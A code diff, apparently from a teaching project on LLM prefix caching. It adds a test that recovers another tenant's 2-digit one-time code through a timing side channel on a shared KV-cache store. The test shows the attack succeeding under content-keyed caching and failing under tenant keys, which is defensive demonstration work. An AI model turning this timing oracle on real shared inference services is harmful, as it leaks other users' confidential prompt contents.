@@ -8,6 +8,8 @@ secret file, same Redis database, each with its own tenant-keyed pool.  Under UN
   (``--prime-url`` A) fails, in both directions;
 * recovers a PIN another tenant sent to A with the count oracle of lesson 04 (``cached_tokens``),
   two digits per block, at most 100 probes a block;
+* recovers a 2-digit code another tenant sent to A with lesson 04's timing attack, from response
+  times alone: 100 probes, one per candidate;
 * is faster on prompts another tenant primed through A: ``minikv audit timing`` pointed at B
   (``--prime-url`` A) detects it from response times alone.
 
@@ -144,6 +146,55 @@ def test_count_oracle_on_B_recovers_a_pin_sent_to_A_only_under_unsafe_keys(fleet
     print(f"\n[{mode}] recovered {got} in {probes} probes ({probes / len(pin):.0f} per token)")
     if mode == "content":
         assert got == pin and probes <= 200
+    else:
+        assert got is None
+
+
+def timing_oracle(http, url, key, prefix, digits, tail, margin=0.8):
+    """Recover the 2 ids that complete ``prefix``'s last block from response times alone: one
+    request per candidate (a repeat would hit the attacker's own cached copy: lesson 04's
+    self-priming), each followed by ``tail``, the long text the victim's prompt is known to go on
+    with.  Only the right pair hits the store for the whole tail; every other pair recomputes it.
+    The fastest candidate is the answer only if it beats the runner-up by ``margin``: among
+    candidates that all miss, the fastest is noise, and no answer is the right one.
+    Returns (recovered or None, probes, fastest s, runner-up s, median s)."""
+    times = {}
+    for a in digits:
+        for b in digits:
+            body = {"model": MODEL[0], "prompt": prefix + [a, b] + tail, "max_tokens": 1, "temperature": 0}
+            t0 = time.perf_counter()
+            http.post(f"{url}/completions", json=body, headers={"Authorization": f"Bearer {key}"}).raise_for_status()
+            times[(a, b)] = time.perf_counter() - t0
+    ranked = sorted(times, key=times.get)
+    best, second = times[ranked[0]], times[ranked[1]]
+    median = sorted(times.values())[len(times) // 2]
+    return (list(ranked[0]) if best < margin * second else None), len(times), best, second, median
+
+
+def test_timing_attack_on_B_recovers_a_code_sent_to_A_only_under_unsafe_keys(fleet, tiny_path):
+    """Lesson 04's timing attack across instances: bob sends a form letter whose 2-digit code is
+    followed by ~1,800 tokens of boilerplate (the template is public; the code is not) through A.
+    Mallory, on B, tries all 100 codes once each and times them.  Under UNSAFE content keys the
+    right code is served from bob's blocks in the shared store and answers sooner; under tenant
+    keys all 100 recompute and the attack returns nothing."""
+    import random
+    from transformers import AutoTokenizer
+    mode, url_a, url_b, _ = fleet
+    tok = AutoTokenizer.from_pretrained(tiny_path)
+    enc = lambda s: tok.encode(s, add_special_tokens=False)  # noqa: E731
+    digits = [enc(str(d))[0] for d in range(10)]
+    prefix = enc("Your one-time code is: ")
+    prefix = enc("xy")[: (2 - len(prefix)) % 4] + prefix  # the 2 code digits complete a block
+    rng = random.Random(39)
+    tail = [rng.randrange(10, 200) for _ in range(1800)]  # the template's known boilerplate
+    code = [digits[7], digits[3]]
+    with httpx.Client(timeout=120) as http:
+        _cached(http, url_a, "sk-bob", prefix + code + tail)  # the victim, on instance A
+        got, probes, best, second, median = timing_oracle(http, url_b, "sk-mallory", prefix, digits, tail)
+    print(f"\n[timing attack, {mode} keys] recovered {got} in {probes} probes ({probes / len(code):.0f} per "
+          f"token); fastest {1e3 * best:.0f} ms, runner-up {1e3 * second:.0f} ms, median {1e3 * median:.0f} ms")
+    if mode == "content":
+        assert got == code
     else:
         assert got is None
 
